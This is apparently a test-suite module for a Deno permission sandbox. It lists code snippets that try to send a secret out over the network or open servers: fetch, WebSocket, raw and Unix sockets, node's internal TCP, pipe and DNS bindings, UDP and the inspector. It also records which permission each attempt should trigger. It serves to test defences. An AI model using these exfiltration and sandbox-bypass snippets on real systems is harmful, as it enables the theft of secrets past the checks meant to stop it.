/**
 * Attacks over the network.
 *
 * @module
 */
import type { Attack } from "./attack.ts";

/** Requests and connections to whom nobody granted. */
const CALLS: readonly Attack[] = [
  {
    name: "fetch of another host",
    code: "await fetch(world.other + '/' + world.secret);",
    refused: "net",
  },
  {
    name: "fetch of its own origin",
    code: "await fetch(world.own + '/' + world.secret);",
    refused: "net",
  },
  {
    name: "another port of a granted host",
    code: "await fetch(world.other + '/', { method: 'POST', body: world.secret });",
    refused: "net",
  },
  {
    name: "a redirect to another host",
    code:
      "await (await fetch(world.allowed + '/to-other?' + world.secret)).text(); return world.secret;",
    refused: "net",
  },
  {
    name: "a proxy that is another host",
    code: `using client = Deno.createHttpClient({ proxy: { url: world.other } });
      await fetch(world.allowed + "/" + world.secret, { client });`,
    refused: "net",
  },
  {
    name: "a WebSocket",
    code: `await new Promise((resolve, reject) => {
        const socket = new WebSocket(world.other.replace("http", "ws") + "/" + world.secret);
        socket.onopen = resolve;
        socket.onerror = ({ message }) => reject(new Error(message));
      });`,
    refused: "net",
  },
  {
    name: "an EventSource",
    code: `await new Promise((_, reject) => {
        const source = new EventSource(world.other + "/" + world.secret);
        source.onerror = ({ message = "no reason" }) => { source.close(); reject(new Error(message)); };
      });`,
    refused: { says: /no reason/, because: "an EventSource's event of an error gives no reason" },
  },
  {
    name: "Deno.connect",
    code: `using connection = await Deno.connect({ hostname: "127.0.0.1", port: world.port });
      await connection.write(new TextEncoder().encode(world.secret));`,
    refused: "net",
  },
  {
    name: "Deno.connectTls",
    code: "await Deno.connectTls({ hostname: '127.0.0.1', port: world.port });",
    refused: "net",
  },
  {
    name: "Deno.connect to a Unix socket",
    code: `using _ = await Deno.connect({ transport: "unix", path: world.folder + "/socket" });
      return world.secret;`,
    refused: "read",
  },
  {
    name: "node:net",
    code: `const net = await import("node:net");
      await new Promise((resolve, reject) => {
        const socket = net.connect(world.port, "127.0.0.1", () => socket.end(world.secret, resolve));
        socket.on("error", reject);
      });`,
    refused: "net",
  },
  {
    name: "node:net with names of its own",
    code: `const net = await import("node:net");
      const lookup = (_name, { all }, found) =>
        all ? found(null, [{ address: "127.0.0.1", family: 4 }]) : found(null, "127.0.0.1", 4);
      await new Promise((resolve, reject) => {
        const to = { host: new URL(world.allowed).hostname, port: world.port, lookup };
        const socket = net.connect(to, () => socket.end(world.secret, resolve));
        socket.on("error", reject);
      });`,
    refused: "net",
  },
  {
    name: "node:net to a Unix socket",
    code: `const net = await import("node:net");
      await new Promise((resolve, reject) => {
        const socket = net.connect(world.folder + "/socket", resolve);
        socket.on("error", reject);
      });
      return world.secret;`,
    refused: "read",
  },
  {
    name: "node:http",
    code: `const http = await import("node:http");
      await new Promise((resolve, reject) => {
        http.get(world.other + "/" + world.secret, (response) => resolve(response.resume())).on("error", reject);
      });`,
    refused: "net",
  },
  {
    name: "node:https",
    code: `const https = await import("node:https");
      await new Promise((resolve, reject) => {
        https.get("https://127.0.0.1:" + world.port, resolve).on("error", reject);
      });`,
    refused: "net",
  },
  {
    name: "node:http2",
    code: `const http2 = await import("node:http2");
      await new Promise((resolve, reject) => {
        http2.connect("http://127.0.0.1:" + world.port).on("error", reject).on("close", resolve);
      });`,
    refused: "net",
  },
  {
    name: "node:tls",
    code: `const tls = await import("node:tls");
      await new Promise((resolve, reject) => {
        tls.connect(world.port, "127.0.0.1", {}, resolve).on("error", reject);
      });`,
    refused: "net",
  },
];

/** What node's modules stand on, without their checks. */
const BINDINGS: readonly Attack[] = [
  {
    name: "node's binding of TCP",
    code:
      `const { TCP, TCPConnectWrap, constants } = (await import("node:process")).default.binding("tcp_wrap");
      const request = new TCPConnectWrap();
      await new Promise((resolve) => {
        request.oncomplete = resolve;
        new TCP(constants.SOCKET).connect(request, "127.0.0.1", world.port);
      });`,
    refused: "net",
  },
  {
    name: "node's binding of pipes",
    code:
      `const { Pipe, PipeConnectWrap, constants } = (await import("node:process")).default.binding("pipe_wrap");
      const request = new PipeConnectWrap();
      const status = await new Promise((resolve) => {
        request.oncomplete = resolve;
        new Pipe(constants.SOCKET).connect(request, world.folder + "/socket");
      });
      return status === 0 && world.secret;`,
    refused: "read",
  },
  {
    name: "node's binding of name servers",
    code:
      `const { ChannelWrap, QueryReqWrap } = (await import("node:process")).default.binding("cares_wrap");
      const channel = new ChannelWrap(100, 1);
      channel.setServers([[4, "127.0.0.1", world.dns]]);
      const request = new QueryReqWrap();
      const status = await new Promise((resolve) => {
        request.oncomplete = resolve;
        channel.queryA(request, world.secret + ".test");
      });
      throw new Error("status " + status);`,
    refused: { says: /status -4094/, because: "node's bindings have numbers for what went wrong" },
  },
  {
    name: "node:dgram sends",
    code: `const dgram = await import("node:dgram");
      const socket = dgram.createSocket("udp4");
      await uncaught((resolve, reject) =>
        socket.on("error", reject).send(world.secret, world.dns, "127.0.0.1", (error) => error ? reject(error) : resolve())
      );
      return world.secret;`,
    refused: "net",
  },
];

/** Servers that others could ask. */
const SERVERS: readonly Attack[] = [
  {
    name: "Deno.listen",
    code: "using _ = Deno.listen({ hostname: '127.0.0.1', port: 0 }); return world.secret;",
    refused: "net",
  },
  {
    name: "Deno.serve",
    code: `const options = { hostname: "127.0.0.1", port: 0, onListen() {} };
      const server = Deno.serve(options, () => new Response(world.secret));
      const text = await (await fetch("http://127.0.0.1:" + server.addr.port)).text();
      await server.shutdown();
      return text;`,
    refused: "net",
  },
  {
    name: "Deno.serve on a Unix socket",
    code:
      `const server = Deno.serve({ path: world.folder + "/written.sock", onListen() {} }, () => new Response());
      await server.shutdown();
      return world.secret;`,
    refused: "read",
  },
  {
    name: "node:net listens",
    code: `const net = await import("node:net");
      const server = net.createServer();
      await uncaught((resolve, reject) => server.on("error", reject).listen(0, "127.0.0.1", resolve));
      server.close();
      return world.secret;`,
    refused: "net",
  },
  {
    name: "node:dgram",
    code: `const dgram = await import("node:dgram");
      const socket = dgram.createSocket("udp4");
      await uncaught((resolve, reject) => { socket.on("error", reject); socket.bind(0, "127.0.0.1", resolve); });
      socket.close();
      return world.secret;`,
    refused: "net",
  },
  {
    name: "node:inspector",
    code: "(await import('node:inspector')).open(0, '127.0.0.1'); return world.secret;",
    refused: "sys",
  },
];

/** All of these. */
export const NETWORK: readonly Attack[] = [...CALLS, ...BINDINGS, ...SERVERS];
